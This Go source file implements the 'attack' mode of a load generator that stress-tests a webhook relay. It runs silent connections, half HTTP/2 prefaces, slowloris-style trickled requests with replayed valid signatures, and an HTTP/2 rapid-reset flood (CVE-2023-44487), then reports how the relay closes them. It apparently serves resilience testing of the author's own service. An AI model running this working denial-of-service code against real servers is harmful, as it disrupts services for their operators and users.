package main

// loadgen attack: connections that try to hold a relay's connections and memory without ever
// delivering, all at once, until --duration:
//
//	silent        connect and send nothing
//	half-preface  send the first half of the HTTP/2 preface, then nothing
//	trickle-head  send a request head one byte per --trickle-interval, never finishing it
//	trickle-body  send a complete head, correctly signed (a captured signature replayed), then the
//	              body one byte per --trickle-interval
//	h2-reset      h2c connections that open streams and reset each at once (CVE-2023-44487's
//	              pattern), --h2-rate streams per second in all
//	idle          send one complete request (answered 404), then keep the connection idle
//
// Each slot opens a new connection as soon as the relay closes its previous one, so the pressure
// stays on for the whole run. It counts, per kind, the connections opened, those the relay closed
// (and after how long, and with which answer), and those still open at the end. One JSON result
// on stdout; --ready-file is written once every slot has connected once.

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

type attackConfig struct {
	addr, path, secret, readyFile                          string
	silent, halfPreface, trickleHead, trickleBody, h2Conns int
	idle                                                   int
	h2Rate                                                 float64
	trickleInterval, duration                              time.Duration
	bodyLength                                             int
}

// kindStats are the counts of one kind of attacking connection.
type kindStats struct {
	mu         sync.Mutex
	Slots      int                `json:"slots"`
	Opened     int64              `json:"opened"`
	DialFailed int64              `json:"dial_failed"`
	Closed     int64              `json:"closed_by_relay"`
	StillOpen  int64              `json:"still_open_at_end"`
	Answers    map[string]int     `json:"answers"` // HTTP status of an answer before the close, or "none"
	Lifetimes  []float64          `json:"-"`
	Lifetime   map[string]float64 `json:"lifetime_s"` // of the connections the relay closed
	FirstError string             `json:"first_dial_error,omitempty"`
}

func (k *kindStats) closed(lifetime time.Duration, answer string) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.Closed++
	k.Lifetimes = append(k.Lifetimes, lifetime.Seconds())
	k.Answers[answer]++
}

func (k *kindStats) dialFailed(err error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.DialFailed++
	if k.FirstError == "" {
		k.FirstError = err.Error()
	}
}

func (k *kindStats) summarise() {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.Lifetime = map[string]float64{}
	if len(k.Lifetimes) == 0 {
		return
	}
	sort.Float64s(k.Lifetimes)
	at := func(q float64) float64 { return k.Lifetimes[int(q*float64(len(k.Lifetimes)-1))] }
	k.Lifetime["min"], k.Lifetime["p50"], k.Lifetime["p99"], k.Lifetime["max"] = at(0), at(0.5), at(0.99), at(1)
}

// h2Stats are the counts of the stream-resetting HTTP/2 connections.
type h2Stats struct {
	Connections int64          `json:"connections"`
	Streams     int64          `json:"streams_opened_and_reset"`
	Responses   int64          `json:"responses"`
	GoAways     map[string]int `json:"goaways"` // by error code
	Closed      int64          `json:"closed_by_relay"`
	mu          sync.Mutex
}

type attackResult struct {
	DurationS float64               `json:"duration_s"`
	Kinds     map[string]*kindStats `json:"kinds"`
	H2        *h2Stats              `json:"h2_reset"`
}

func cmdAttack(args []string) error {
	var ac attackConfig
	fs := flag.NewFlagSet("attack", flag.ExitOnError)
	fs.StringVar(&ac.addr, "addr", "127.0.0.1:8080", "relay address (host:port)")
	fs.StringVar(&ac.path, "path", "/webhooks/business-processes", "webhook path")
	fs.StringVar(&ac.secret, "secret", "", "signing secret for trickle-body's signatures (or env LOADGEN_SECRET)")
	fs.IntVar(&ac.silent, "silent", 800, "connections that send nothing")
	fs.IntVar(&ac.halfPreface, "half-preface", 400, "connections that send half the HTTP/2 preface")
	fs.IntVar(&ac.trickleHead, "trickle-head", 800, "connections that trickle a request head")
	fs.IntVar(&ac.trickleBody, "trickle-body", 200, "connections that trickle a signed request's body")
	fs.IntVar(&ac.h2Conns, "h2-conns", 1, "h2c connections opening and resetting streams")
	fs.IntVar(&ac.idle, "idle", 0, "keep-alive connections left idle after one request")
	fs.Float64Var(&ac.h2Rate, "h2-rate", 1000, "streams opened and reset per second, over all h2c connections")
	fs.DurationVar(&ac.trickleInterval, "trickle-interval", 500*time.Millisecond, "pause between trickled bytes")
	fs.IntVar(&ac.bodyLength, "body-length", 65536, "Content-Length the body tricklers declare")
	fs.DurationVar(&ac.duration, "duration", 30*time.Second, "how long the attack lasts")
	fs.StringVar(&ac.readyFile, "ready-file", "", "written once every slot has connected once")
	fs.Parse(args)
	if ac.secret == "" {
		ac.secret = os.Getenv("LOADGEN_SECRET")
	}
	if ac.trickleBody > 0 && ac.secret == "" {
		return errors.New("--secret (or LOADGEN_SECRET) is required for --trickle-body")
	}
	ctx, cancel := context.WithTimeout(context.Background(), ac.duration)
	defer cancel()
	res := attackResult{Kinds: map[string]*kindStats{}, H2: &h2Stats{GoAways: map[string]int{}}}
	var wg sync.WaitGroup
	var pending atomic.Int64 // slots not yet connected once
	connectedOnce := func() {
		if pending.Add(-1) == 0 && ac.readyFile != "" {
			os.WriteFile(ac.readyFile, []byte("ready\n"), 0o644)
		}
	}
	signer := &requestMaker{secret: []byte(ac.secret), host: ac.addr, path: ac.path}
	rand.Read(signer.nonce[:])
	kinds := []struct {
		name  string
		slots int
		first func() []byte        // sent at once
		next  func() func() []byte // per connection: what it sends every --trickle-interval; nil: nothing more
	}{
		{"silent", ac.silent, nil, nil},
		{"half_preface", ac.halfPreface, func() []byte { return []byte("PRI * HTTP/2.0\r\n") }, nil},
		{"trickle_head", ac.trickleHead, nil, trickle([]byte("POST " + ac.path + " HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\nX-Padding: "))},
		{"trickle_body", ac.trickleBody, func() []byte { return signedHead(signer, ac.bodyLength) }, trickle([]byte(`{"id":"`))},
		{"idle", ac.idle, func() []byte { return []byte("GET / HTTP/1.1\r\nHost: relay\r\n\r\n") }, nil},
	}
	start := time.Now()
	for _, kind := range kinds {
		stats := &kindStats{Slots: kind.slots, Answers: map[string]int{}}
		res.Kinds[kind.name] = stats
		for range kind.slots {
			pending.Add(1)
			wg.Add(1)
			go func() {
				defer wg.Done()
				attackSlot(ctx, ac, stats, kind.first, kind.next, connectedOnce)
			}()
		}
	}
	for i := range ac.h2Conns {
		pending.Add(1)
		wg.Add(1)
		go func() {
			defer wg.Done()
			interval := time.Duration(float64(time.Second) * float64(ac.h2Conns) / ac.h2Rate)
			h2ResetSlot(ctx, ac, signer, res.H2, interval, i, connectedOnce)
		}()
	}
	wg.Wait()
	res.DurationS = time.Since(start).Seconds()
	for _, k := range res.Kinds {
		k.summarise()
	}
	return printJSON(res)
}

// trickle makes, for each connection, a source of the bytes of prefix one at a time, then 'a's
// forever (an endless header value, or an endless JSON string).
func trickle(prefix []byte) func() func() []byte {
	return func() func() []byte {
		sent := 0
		return func() []byte {
			if sent < len(prefix) {
				sent++
				return prefix[sent-1 : sent]
			}
			return []byte{'a'}
		}
	}
}

// signedHead is a request head with valid signature headers for a body of bodyLength bytes.
func signedHead(m *requestMaker, bodyLength int) []byte {
	value, ts, sig := m.sign()
	return []byte("POST " + m.path + " HTTP/1.1\r\nHost: " + m.host + "\r\nContent-Type: application/json\r\nContent-Length: " +
		strconv.Itoa(bodyLength) + "\r\nX-AUTHVIA-SIGNATURE: " + sig + "\r\nX-AUTHVIA-VALUE: " + value +
		"\r\nX-AUTHVIA-TIMESTAMP: " + ts + "\r\nX-AUTHVIA-ALGORITHM: SHA-256\r\n\r\n")
}

// attackSlot keeps one attacking HTTP/1 connection open until ctx ends: sends first, then
// next() every interval, and reconnects whenever the relay closes the connection.
func attackSlot(ctx context.Context, ac attackConfig, stats *kindStats, first func() []byte, source func() func() []byte, connectedOnce func()) {
	once := sync.Once{}
	for ctx.Err() == nil {
		// Lifetimes count from before the dial: never shorter than the relay's view of the
		// connection, however late this goroutine runs.
		opened := time.Now()
		c, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", ac.addr)
		if err != nil {
			if ctx.Err() == nil {
				stats.dialFailed(err)
				pause(ctx, 100*time.Millisecond)
			}
			continue
		}
		stats.mu.Lock()
		stats.Opened++
		stats.mu.Unlock()
		once.Do(connectedOnce)
		closed := make(chan string, 1)
		go func() { closed <- readUntilClosed(c) }()
		if first != nil {
			c.Write(first())
		}
		if !holdConnection(ctx, c, closed, source, ac.trickleInterval, stats, opened) {
			return
		}
	}
}

// holdConnection keeps c open, trickling source's bytes, until the relay closes it (true) or ctx
// ends (false).
func holdConnection(ctx context.Context, c net.Conn, closed <-chan string, source func() func() []byte, interval time.Duration, stats *kindStats, opened time.Time) bool {
	defer c.Close()
	var tick <-chan time.Time
	var next func() []byte
	if source != nil {
		next = source()
		ticker := time.NewTicker(interval)
		defer ticker.Stop()
		tick = ticker.C
	}
	for {
		select {
		case <-ctx.Done():
			c.Close()
			<-closed
			stats.mu.Lock()
			stats.StillOpen++
			stats.mu.Unlock()
			return false
		case answer := <-closed:
			stats.closed(time.Since(opened), answer)
			return true
		case <-tick:
			c.SetWriteDeadline(time.Now().Add(time.Second))
			c.Write(next()) // a failed write shows as the read side closing
		}
	}
}

// readUntilClosed reads until the relay closes the connection; the status of the first answer
// it sent, or "none".
func readUntilClosed(c net.Conn) string {
	var got []byte
	buf := make([]byte, 512)
	for {
		n, err := c.Read(buf)
		if len(got) < 16 {
			got = append(got, buf[:n]...)
		}
		if err != nil {
			break
		}
	}
	if bytes.HasPrefix(got, []byte("HTTP/1.1 ")) && len(got) >= 12 {
		return string(got[9:12])
	}
	return "none"
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// ---- HTTP/2 ----------------------------------------------------------------------------------

const h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

const (
	frameHeaders   = 0x1
	frameRSTStream = 0x3
	frameSettings  = 0x4
	framePing      = 0x6
	frameGoAway    = 0x7
	flagAck        = 0x1
	flagEndHeaders = 0x4
	errCancel      = 0x8
)

func frame(typ, flags byte, stream uint32, payload []byte) []byte {
	f := make([]byte, 9, 9+len(payload))
	f[0], f[1], f[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	f[3], f[4] = typ, flags
	binary.BigEndian.PutUint32(f[5:], stream&0x7fffffff)
	return append(f, payload...)
}

// hpackLiteral appends a header as an HPACK literal without indexing, with a literal name and no
// Huffman coding: the simplest valid encoding.
func hpackLiteral(b []byte, name, value string) []byte {
	b = append(b, 0x00)
	b = hpackString(b, name)
	return hpackString(b, value)
}

func hpackString(b []byte, s string) []byte {
	// A 7-bit prefix integer (RFC 7541 5.1), Huffman bit clear.
	n := len(s)
	if n < 127 {
		b = append(b, byte(n))
	} else {
		b = append(b, 127)
		for n -= 127; n >= 128; n >>= 7 {
			b = append(b, byte(n%128+128))
		}
		b = append(b, byte(n))
	}
	return append(b, s...)
}

// h2ResetSlot opens streams on an h2c connection and resets each at once, every interval, until
// ctx ends; it reconnects when the relay sends GOAWAY or closes the connection.
func h2ResetSlot(ctx context.Context, ac attackConfig, m *requestMaker, stats *h2Stats, interval time.Duration, slot int, connectedOnce func()) {
	once := sync.Once{}
	for ctx.Err() == nil {
		c, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", ac.addr)
		if err != nil {
			pause(ctx, 100*time.Millisecond)
			continue
		}
		atomic.AddInt64(&stats.Connections, 1)
		once.Do(connectedOnce)
		var wmu sync.Mutex
		write := func(b []byte) error {
			wmu.Lock()
			defer wmu.Unlock()
			c.SetWriteDeadline(time.Now().Add(2 * time.Second))
			_, err := c.Write(b)
			return err
		}
		write(append([]byte(h2Preface), frame(frameSettings, 0, 0, nil)...))
		ended := make(chan struct{})
		go func() {
			defer close(ended)
			h2Read(c, write, stats)
		}()
		ticker := time.NewTicker(interval)
		stream := uint32(1)
	streams:
		for {
			select {
			case <-ctx.Done():
				ticker.Stop()
				c.Close()
				<-ended
				return
			case <-ended:
				break streams
			case <-ticker.C:
				value, ts, sig := m.sign()
				block := hpackLiteral(nil, ":method", "POST")
				block = hpackLiteral(block, ":scheme", "http")
				block = hpackLiteral(block, ":path", ac.path)
				block = hpackLiteral(block, ":authority", ac.addr)
				block = hpackLiteral(block, "content-type", "application/json")
				block = hpackLiteral(block, "x-authvia-signature", sig)
				block = hpackLiteral(block, "x-authvia-value", value)
				block = hpackLiteral(block, "x-authvia-timestamp", ts)
				block = hpackLiteral(block, "x-authvia-algorithm", "SHA-256")
				rst := make([]byte, 4)
				binary.BigEndian.PutUint32(rst, errCancel)
				out := append(frame(frameHeaders, flagEndHeaders, stream, block), frame(frameRSTStream, 0, stream, rst)...)
				if write(out) == nil {
					atomic.AddInt64(&stats.Streams, 1)
				}
				stream += 2
			}
		}
		ticker.Stop()
		c.Close()
		stats.mu.Lock()
		stats.Closed++
		stats.mu.Unlock()
	}
}

// h2Read answers the relay's SETTINGS and PINGs and counts its answers, until GOAWAY or the
// connection ends.
func h2Read(c net.Conn, write func([]byte) error, stats *h2Stats) {
	head := make([]byte, 9)
	for {
		if _, err := io.ReadFull(c, head); err != nil {
			return
		}
		length := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
		payload := make([]byte, length)
		if _, err := io.ReadFull(c, payload); err != nil {
			return
		}
		switch typ, flags := head[3], head[4]; {
		case typ == frameSettings && flags&flagAck == 0:
			write(frame(frameSettings, flagAck, 0, nil))
		case typ == framePing && flags&flagAck == 0:
			write(frame(framePing, flagAck, 0, payload))
		case typ == frameHeaders:
			atomic.AddInt64(&stats.Responses, 1)
		case typ == frameGoAway:
			code := "?"
			if len(payload) >= 8 {
				code = fmt.Sprintf("0x%x", binary.BigEndian.Uint32(payload[4:8]))
			}
			stats.mu.Lock()
			stats.GoAways[code]++
			stats.mu.Unlock()
			return
		}
	}
}
